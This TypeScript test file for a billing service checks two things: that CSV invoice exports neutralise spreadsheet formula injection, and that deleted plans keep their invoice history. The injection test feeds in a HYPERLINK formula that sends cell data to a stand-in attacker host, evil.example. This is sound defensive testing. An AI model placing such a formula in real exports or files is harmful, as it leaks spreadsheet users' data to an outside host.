import { Api } from '@mercato/test-support/api-client';
import { orderBilledResource } from '@mercato/test-support/billed-resource';
import { DATABASE_KINDS, startTestServer, type TestServer } from '@mercato/test-support/server-harness';
import { makeWorld, waitForOrder, type World } from '@mercato/test-support/world';

/**
 * Billing tried as its users would (issue 13), over HTTP on both databases: faults found by trying
 * it, each kept here as the test that found it.
 */
describe.each(DATABASE_KINDS)('billing tried out on %s', (kind) => {
  let server: TestServer;
  let admin: Api;
  let w: World;

  beforeAll(async () => {
    server = await startTestServer(kind, { worker: { pollIntervalMs: 20 } });
    admin = new Api(server.url, server.adminToken);
    w = await makeWorld(admin, `try-${kind}`);
  });
  afterAll(() => server?.close());

  const done = async (api: Api, body: object) => {
    const order = await api.expect(201, api.post('/orders', body));
    expect((await waitForOrder(api, order.id)).state).toBe('done');
    return order;
  };

  test('CSV export: a cell a spreadsheet would run as a formula starts with a quote (OWASP); JSON keeps the name', async () => {
    const sm = w.serviceManager.api;
    const owner = w.consumer.owner.api;
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Open, then\nsee")';
    const billed = await orderBilledResource(w, formula);
    await sm.expect(200, sm.patch(`/plans/${billed.plan.id}`, { name: '@SUM(1+1)' }));
    const path = `/invoices/${w.consumer.organization.id}/${billed.period}`;
    const invoice = await owner.expect(200, owner.get(path));
    expect(invoice.items.map((i: { resource_name: string }) => i.resource_name)).toEqual([formula, formula]);
    const csv = await owner.get(`${path}?format=csv`);
    expect(csv.status).toBe(200);
    const rows = (csv.body as string).split('\r\n').slice(1, -1);
    expect(rows).toHaveLength(2);
    for (const row of rows) {
      // RFC 4180 still: quoted, quotes doubled, the line break kept inside the quotes.
      expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Open, then\nsee"")",`);
      expect(row).toContain(",'@SUM(1+1),");
      expect(row).not.toMatch(/,[=+\-@]/);
    }
    // Amounts, quantities and prices stay numbers.
    expect(rows[0]).toMatch(/,3,2\.345,USD,.*,0,7\.04$/);
  });

  test('a deleted plan is hidden, not lost: the invoices and earnings of a month that billed it stay whole', async () => {
    const sm = w.serviceManager.api;
    const owner = w.consumer.owner.api;
    const organization = w.consumer.organization.id;
    const billed = await orderBilledResource(w, 'switched away');
    const invoice = () => owner.get(`/invoices?organization_id=${organization}&period=${billed.period}`);
    const earnings = () => sm.expect(200, sm.get(`/earnings?organization_id=${w.provider.id}&period=${billed.period}`));
    const before = await owner.expect(200, invoice());
    expect(before.items[0].items.filter((i: { plan_id: string }) => i.plan_id === billed.plan.id)).toHaveLength(2);
    const earned = await earnings();

    // Switched away from its plan, then terminated: no live resource holds either plan, this month bills both.
    const next = await sm.expect(
      201,
      sm.post('/plans', { offering_id: w.autoApproved.id, name: 'next', unit: 'one-time', prices: { base: 1 } }),
    );
    await done(owner, { type: 'update', resource_id: billed.resourceId, plan_id: next.id });
    const during = await owner.expect(200, invoice());
    await done(owner, { type: 'terminate', resource_id: billed.resourceId });
    await sm.expect(204, sm.delete(`/plans/${billed.plan.id}`));
    await sm.expect(204, sm.delete(`/plans/${next.id}`));

    // Gone from the catalog: not found, not listed, not orderable.
    await sm.expect(404, sm.get(`/plans/${billed.plan.id}`));
    const listed = await sm.expect(200, sm.get(`/plans?offering_id=${w.autoApproved.id}`));
    expect(listed.items.map((p: { id: string }) => p.id)).not.toContain(next.id);

    // The invoices, the provider's earnings and a staff's view still answer, with the same figures.
    expect(await owner.expect(200, invoice())).toEqual(during);
    expect(during.items[0].items.filter((i: { plan_id: string }) => i.plan_id === billed.plan.id)).toEqual(
      before.items[0].items.filter((i: { plan_id: string }) => i.plan_id === billed.plan.id),
    );
    expect((await earnings()).items.length).toBe(earned.items.length);
    await admin.expect(200, admin.get(`/invoices?period=${billed.period}`));
  });
});
